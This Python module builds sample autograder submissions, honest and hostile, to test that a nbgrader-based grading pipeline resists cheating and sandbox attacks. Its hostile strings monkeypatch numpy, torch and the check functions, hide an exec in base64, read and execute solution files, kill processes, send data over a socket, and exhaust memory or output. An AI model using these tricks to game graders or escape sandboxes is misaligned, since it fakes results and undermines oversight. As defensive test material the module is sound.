"""Sample submissions, built from the current release so they never go stale: the demo and the tests.

``build(dest)`` writes ``dest/<student>/01_networks/01_networks.ipynb`` for every sample below, in
nbgrader's submitted layout. Each sample is the student release with some cells filled or added:
honest ones (complete, blank, partial, honest habits) and hostile ones, one per known attack. The
score each must get is in ``EXPECTED``; ``tests/test_grading.py`` grades them all in one batch.

``build_generic(dest, assignment)`` does the same for any other graded assignment with three samples:
the reference answers (full marks), the blank release (0) and a blank release whose extra cell
patches numpy, torch and every check function so the visible checks pass in the kernel (0).
"""
from __future__ import annotations

import inspect
from pathlib import Path

import nbformat

from .course import COURSE

ASSIGNMENT = "01_networks"
RELEASE = COURSE / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"


def _reference(name: str) -> str:
    from solutions import networks  # instructors' tooling only: the samples need the answers
    return inspect.getsource(getattr(networks, name)).rstrip("\n")


def _answer(nb, grade_id: str, source: str) -> None:
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = source
            return
    raise KeyError(grade_id)


def _complete(nb, task1: bool = True, task2: bool = True) -> None:
    if task1:
        _answer(nb, "task1_candidate_generation", _reference("DeepCandidateGenerationModel"))
    if task2:
        _answer(nb, "task2_ranking", _reference("DeepRankingModel"))


def _after(nb, grade_id: str, source: str) -> None:
    """Insert a student's own cell right after the cell with ``grade_id``."""
    index = next(i for i, c in enumerate(nb.cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))


# Each hostile sample: (what it does, how). The cheats run in the student's own kernel and make the
# visible checks pass there; they earn nothing, because the comparator judges outside that kernel.
PATCH_ANY = "import torch\ntorch.Tensor.any = lambda self, *a, **k: torch.tensor(False)\nimport numpy as np\nnp.allclose = lambda *a, **k: True"
LIAR = '''import torch
class Liar(torch.Tensor):
    def __eq__(self, other): return torch.ones_like(torch.Tensor(self), dtype=torch.bool)
    def __ne__(self, other): return torch.zeros_like(torch.Tensor(self), dtype=torch.bool)
    def numpy(self, *a, **k): return globals().get("_WANT", torch.Tensor(self).numpy())
class DeepCandidateGenerationModel(torch.nn.Module):
    def __init__(self, n_items, embedding_dim, hidden_dim, n_hidden_layers, seed):
        super().__init__(); self.n = n_items
    def forward(self, user_histories):
        return torch.zeros(len(user_histories), self.n).as_subclass(Liar)'''
GLOBALS = '''check_candidate_generation.__globals__["mismatch_lines"] = lambda *a, **k: []
check_candidate_generation.__globals__["_check_parameters"] = lambda *a, **k: None
check_ranking.__globals__["_check_visible"] = lambda *a, **k: (0, 0)'''
BASE64 = "import base64\nexec(base64.b64decode(%r).decode())" % __import__("base64").b64encode(GLOBALS.encode()).decode()
READS_FILES = '''import os, pathlib
found = []
for root in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path("/work"), pathlib.Path("/root")]:
    for name in ["solutions/networks.py", "autograder/hidden/01_networks.json", "main/solutions/networks.py"]:
        if (root / name).is_file():
            found.append(str(root / name))
for path in found:
    if path.endswith(".py"):
        exec(pathlib.Path(path).read_text())
print("found:", found)'''
LOOKUP = '''import torch, numpy as np
from autograder.checks.record import visible
from autograder.checks.compare import as_array
TABLE = {str(c["histories"]): as_array(v["arrays"]["output"]) for k, v in visible("01_networks").items()
         for c in [__import__("autograder.checks.networks", fromlist=["CASES"]).CASES[k]] if "histories" in c}
class DeepCandidateGenerationModel(torch.nn.Module):
    def __init__(self, n_items, embedding_dim, hidden_dim, n_hidden_layers, seed):
        super().__init__(); self.n = n_items
        self.w = torch.nn.Parameter(torch.zeros(1))
    def forward(self, user_histories):
        key = str([h.tolist() for h in user_histories])
        if key in TABLE:
            return torch.tensor(TABLE[key]) + 0 * self.w
        return torch.full((len(user_histories), self.n), 1.0 / self.n) + 0 * self.w'''
LOCKED_PATCH = "import torch\ntorch.Tensor.any = lambda self, *a, **k: torch.tensor(False)"
BREAKS_OUT = '''import os, signal, pathlib
here = pathlib.Path.cwd()
for target in [here.parent / "gradebook.db", *here.parents]:
    try:
        (target / "autograder").mkdir(exist_ok=True) if target.is_dir() else target.write_text("")
    except OSError as err:
        print("blocked:", target, type(err).__name__)
# The batch and the grader are not in this PID namespace; its init (pid 1) belongs to another user.
for pid in [1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as err:
        print("cannot kill", pid, type(err).__name__)
print("visible processes:", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))'''
# Its parent (the sandbox's init, which ignores it), then its own process: the notebook runs in the runner.
KILLS_PARENT = """import os, signal
for pid in [os.getppid(), os.getpid()]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as err:
        print("cannot kill", pid, type(err).__name__)"""
NETWORK_AND_CHILD = '''import socket, subprocess
try:
    socket.create_connection(("127.0.0.1", %d), timeout=2).sendall(b"leak")
    print("network: connected")
except OSError as err:
    print("network blocked:", err)
subprocess.Popen(["setsid", "sleep", "7919"])'''
MEMORY = "hog = bytearray(64 * 2**30)  # 64 GiB"
HANGS = "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except BaseException:\n        pass"
FLOOD = 'print("BEGIN HIDDEN TESTS")\nprint("x" * 30_000_000)\n# ### BEGIN HIDDEN TESTS'
HONEST = '''# I will compare with the solutions after trying; print(globals()) helped while debugging.
from autograder.checks.networks import check_candidate_generation as again
again(DeepCandidateGenerationModel)
names = sorted(k for k in globals() if not k.startswith("_"))
print(len(names), "names defined")'''
SETATTR_TASK1 = '''class DeepCandidateGenerationModel(nn.Module):
    def __init__(self, n_items, embedding_dim, hidden_dim, n_hidden_layers, seed):
        super().__init__()
        self.seed = torch.manual_seed(seed)
        self.embedding = nn.Embedding(n_items, embedding_dim)
        self.n, width, previous = n_hidden_layers, hidden_dim * 2 ** (n_hidden_layers - 1), embedding_dim
        for i in range(n_hidden_layers):  # layers registered by name, one by one
            setattr(self, f"layer{i}", nn.Linear(previous, width, bias=False))
            previous, width = width, width // 2
        self.output = nn.Linear(hidden_dim, n_items, bias=False)

    def forward(self, user_histories):
        x = torch.stack([self.embedding(h).mean(dim=0) for h in user_histories])
        for i in range(self.n):
            x = torch.relu(getattr(self, f"layer{i}")(x))
        return torch.softmax(self.output(x), dim=1)'''


def _samples(port: int) -> dict:
    """student -> (function that edits the release notebook, expected score, expected status)."""
    def edit(*steps):
        def apply(nb):
            for step in steps:
                step(nb)
        return apply
    add = lambda grade_id, src: (lambda nb: _after(nb, grade_id, src))
    delete_tests = lambda nb: setattr(nb, "cells", [c for c in nb.cells if not c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("test_")])

    def lock_patch(nb):
        _answer(nb, "task1_candidate_generation", LOCKED_PATCH)
        for c in nb.cells:
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "task1_candidate_generation":
                c.metadata["nbgrader"]["locked"] = True
    return {
        # honest work
        "complete": (edit(_complete), 10, "ok"),
        "blank": (edit(), 0, "ok"),
        "task1_only": (edit(lambda nb: _complete(nb, task2=False)), 5, "ok"),
        "honest_habits": (edit(_complete, add("task1_candidate_generation", HONEST),
                               lambda nb: _answer(nb, "task1_candidate_generation", SETATTR_TASK1)), 10, "ok"),
        "deleted_tests": (edit(_complete, delete_tests), 10, "ok"),
        # cheats inside the kernel: the visible checks pass there, the comparator gives nothing
        "patches_torch": (edit(add("imports", PATCH_ANY)), 0, "ok"),
        "lying_tensor": (edit(lambda nb: _answer(nb, "task1_candidate_generation", LIAR)), 0, "ok"),
        "rebinds_globals": (edit(add("imports", GLOBALS)), 0, "ok"),
        "exec_base64": (edit(add("imports", BASE64)), 0, "ok"),
        "lookup_table": (edit(lambda nb: _answer(nb, "task1_candidate_generation", LOOKUP)), 0, "ok"),
        "locks_answer_cell": (edit(lock_patch), 0, "ok"),
        "reads_solutions": (edit(add("imports", READS_FILES)), 0, "ok"),
        # attacks on the grader and the other submissions: contained by the sandbox
        "breaks_out": (edit(_complete, add("imports", BREAKS_OUT)), 10, "ok"),
        "kills_its_runner": (edit(_complete, add("test_task1_gradients", KILLS_PARENT)), 5, "crashed"),
        "network_and_child": (edit(_complete, add("imports", NETWORK_AND_CHILD % port)), 10, "ok"),
        "floods_output": (edit(_complete, add("imports", FLOOD)), 10, "ok"),
        "memory_hog": (edit(_complete, add("test_task1_gradients", MEMORY)), 10, "memory"),
        "hangs": (edit(_complete, add("test_task1_gradients", HANGS)), 5, "timeout"),
    }


EXPECTED = {name: (score, status) for name, (_, score, status) in _samples(0).items()}


def build(dest: Path, port: int = 9, only: list[str] | None = None) -> dict[str, tuple[float, str]]:
    """Write every sample submission under ``dest`` (nbgrader's submitted layout); returns
    ``{student: (expected score, expected status)}``. ``port`` is a local port the network sample
    tries to reach."""
    out = {}
    for student, (apply, score, status) in _samples(port).items():
        if only and student not in only:
            continue
        nb = nbformat.read(str(RELEASE), as_version=4)
        apply(nb)
        path = dest / student / ASSIGNMENT / RELEASE.name
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, str(path))
        out[student] = (score, status)
    corrupt = dest / "corrupt" / ASSIGNMENT
    if not only or "corrupt" in only:
        corrupt.mkdir(parents=True, exist_ok=True)
        (corrupt / RELEASE.name).write_text('{"cells": [{"cell_type": "code", "source": "trunc')
        out["corrupt"] = (0, "invalid")
    return out


PATCH_EVERYTHING = """import numpy as np, torch
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
for _name, _f in list(globals().items()):
    if _name.startswith("check_") and callable(_f):
        globals()[_name] = lambda *a, **k: print("✓ check passed")"""


def _notebooks(assignment: str) -> list[Path]:
    return sorted((COURSE / "release" / assignment).glob("*.ipynb"))


def build_generic(dest: Path, assignment: str) -> dict[str, tuple[float, str]]:
    """complete / blank / patches_checks submissions of ``assignment`` under ``dest``;
    returns ``{student: (expected score, expected status)}`` (max points from the source notebook)."""
    from solutions.sync import answer_cells
    out = {}
    for student in ("complete", "blank", "patches_checks"):
        max_points = 0.0
        for release in _notebooks(assignment):
            nb = nbformat.read(str(release), as_version=4)
            source = COURSE / "source" / assignment / release.name
            max_points += sum(float(c.metadata["nbgrader"].get("points", 0))
                              for c in nbformat.read(str(source), as_version=4).cells
                              if c.get("metadata", {}).get("nbgrader", {}).get("grade"))
            if student == "complete":
                for grade_id, answer in answer_cells(source).items():
                    _answer(nb, grade_id, answer)
            if student == "patches_checks":
                first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
                nb.cells.insert(first + 1, nbformat.v4.new_code_cell(PATCH_EVERYTHING))
            path = dest / student / assignment / release.name
            path.parent.mkdir(parents=True, exist_ok=True)
            nbformat.write(nb, str(path))
        out[student] = (max_points if student == "complete" else 0.0, "ok")
    return out
